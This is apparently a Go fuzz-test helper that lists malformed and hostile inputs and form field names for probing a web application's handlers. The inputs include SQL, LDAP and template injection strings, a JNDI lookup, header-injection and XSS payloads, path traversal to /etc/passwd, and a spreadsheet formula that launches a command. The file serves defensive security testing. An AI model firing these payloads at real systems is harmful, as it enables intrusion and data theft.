package fuzz_test

import (
	"math/rand/v2"
	"strings"
)

// marker is in all markup of the corpus: a response that contains it did not escape it.
const marker = "<fire"

// corpus are texts that no page expects in a field.
func corpus() []string {
	return []string{
		"", " ", "\t\n", strings.Repeat("x", 64<<10-1), strings.Repeat("è", 5_000), "a\x00b", "\x00", "\xff\xfe", "\xed\xa0\x80", "caf\xe9",
		"\u202eAnna\u202c", "\u2066\u2069", "e\u0301\u0301\u0301\u0301\u0301\u0301", strings.Repeat("\u0300", 500), "👩‍👩‍👧‍👦", "𝔄𝔫𝔫𝔞", "\ufeffAnna", "A\u00adB", "\u200b",
		"' OR '1'='1", "'; DROP TABLE person; --", "1; SELECT pg_sleep(9)", `\'; --`, "%' ESCAPE '", "$1", "%_\\", "E'\\x41'", "*)(uid=*))(|(uid=*", "\\2a\\28",
		"{{.}}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "${jndi:ldap://x.example/a}",
		"a\r\nSet-Cookie: fire=1", "a\nLocation: //fire.example", "%0d%0aX-Fire: 1", "%s%n%x%p", "%!d(string=x)", "%v%+v%#v",
		"-1", "0", "00", "1e309", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "340282366920938463463374607431768211456", "0x1F", "NaN", "Infinity", "٣", "１",
		marker + ">", `">` + marker + ">", "'>" + marker + ` onerror=x>`, "</textarea>" + marker + ">", "</title>" + marker + ">", "javascript:alert(1)", "data:text/html," + marker + ">",
		"//fire.example", "https://fire.example/", "/\\fire.example", "/../../etc/passwd", "..%2f..%2f", "file:///etc/passwd", "\\\\fire.example\\x",
		"=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "prod-interop", "prod-none", "prod-io", "api", "admin", "active", "suspended", "administrator", "operator",
		"suspend", "reactivate", "remove", "join", "leave", "edit", "csv", "xlsx", "it", "en", "RSSMRA80A01H501U", "rssmra80a01h501u", "maria@ente.example", "a@b", "@", "a@b@c.example",
		"00000000-0000-0000-0000-000000000000", "00000000-0000-4000-8000-000000000000", "{00000000-0000-4000-8000-000000000000}", "0000000000004000800000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
		"2026-11-21", "2026-02-30", "0000-00-00", "9999-12-31", "999999-01-01", "-0001-01-01", "prod-interop:api", ":", "::", ":::::", "prod-interop:", ":api", "true", "null", "[]", "{}", "undefined",
		"Anna,Bianchi,\"", "codice fiscale;nome;cognome;e-mail;prodotto;ruolo\nRSSMRA80A01H501U;Maria;Rossi;m@ente.example;prod-interop;api", "\"", ";;;;;;", "a\rb\rc",
	}
}

// fieldNames are the fields of the site's forms and addresses; their values are collected from pages.
func fieldNames() []string {
	return []string{
		"once", "fiscal_code", "first_name", "last_name", "email", "product", "role", "roles", "names_confirmed", "names", "version", "group", "title", "target",
		"user", "action", "state", "category", "q", "text", "after", "before", "above", "below", "page", "person", "from", "to", "lang", "back", "format", "rows", "file", "done",
		"code", "state", "iss", "error", "session_state", "", "[]", "role[]", "user[0]", "__proto__", "a.b", strings.Repeat("n", 300),
	}
}

// pick draws an element.
func pick[T any](r *rand.Rand, from []T) T { return from[r.IntN(len(from))] }
